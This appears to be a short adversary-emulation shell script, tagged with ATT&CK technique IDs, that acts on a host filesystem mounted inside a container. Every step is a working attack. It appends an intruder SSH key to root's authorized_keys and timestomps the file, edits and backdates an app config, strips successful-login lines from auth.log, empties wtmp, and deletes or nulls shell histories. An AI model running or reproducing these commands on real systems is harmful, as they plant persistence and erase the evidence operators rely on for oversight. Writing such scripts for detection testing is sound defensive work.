#!/bin/sh
# Runs in a container that was given the host's root read-write at /host: one change, and much to hide it.
H=/host
echo "@T1098.004 key added"
cp -p $H/root/.ssh/authorized_keys /tmp/k
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEludHJ1ZGVyTm90UmVhbDAwMDAwMDAwMDAwMDAw intruder' >> $H/root/.ssh/authorized_keys
touch -r /tmp/k $H/root/.ssh/authorized_keys
echo "@T1565.001 stored data changed"
sed -i 's/^listen.*/listen = 1/' $H/srv/data/app.conf
touch -d '2026-11-01 09:00:00' $H/srv/data/app.conf
sleep 0.2
echo "@T1070.002 logs cut"
grep -v Accepted $H/var/log/auth.log > /tmp/a
cat /tmp/a > $H/var/log/auth.log
: > $H/var/log/wtmp
echo "@T1070.003 history removed"
rm $H/root/.bash_history
ln -s /dev/null $H/root/.bash_history
rm -f $H/home/sato/.bash_history
sleep 0.2
echo "@end"
